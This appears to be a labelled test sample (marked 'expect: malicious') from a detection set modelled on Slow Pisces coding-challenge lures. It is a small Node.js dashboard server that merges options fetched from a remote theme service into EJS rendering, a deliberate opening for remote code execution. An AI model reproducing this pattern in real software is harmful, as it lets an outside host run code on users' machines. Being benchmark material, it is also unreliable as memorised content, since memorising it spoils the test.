// expect: malicious
// source: blind set 52 (Slow Pisces' coding challenges, Unit 42 2025): a dashboard server renders its template with the
// options a "theme service" answers; EJS turns options such as escapeFunction (client: true) into code; written here
'use strict';
const fs = require('fs');
const path = require('path');
const ejs = require('ejs');
const axios = require('axios');

const TEMPLATE = fs.readFileSync(path.join(__dirname, 'views', 'dashboard.ejs'), 'utf8');
const THEME_URL = 'https://themes.dashboard.example/api/v2/theme';
let theme = null;

async function loadTheme() {
  if (theme) return theme;
  const { data } = await axios.get(THEME_URL, { timeout: 4000 });
  theme = { locals: data.locals || {}, options: data.options || {} };
  return theme;
}

async function renderDashboard(locals) {
  const t = await loadTheme();
  return ejs.render(TEMPLATE, Object.assign({}, t.locals, locals), Object.assign({}, t.options, { cache: false }));
}

module.exports = { renderDashboard };
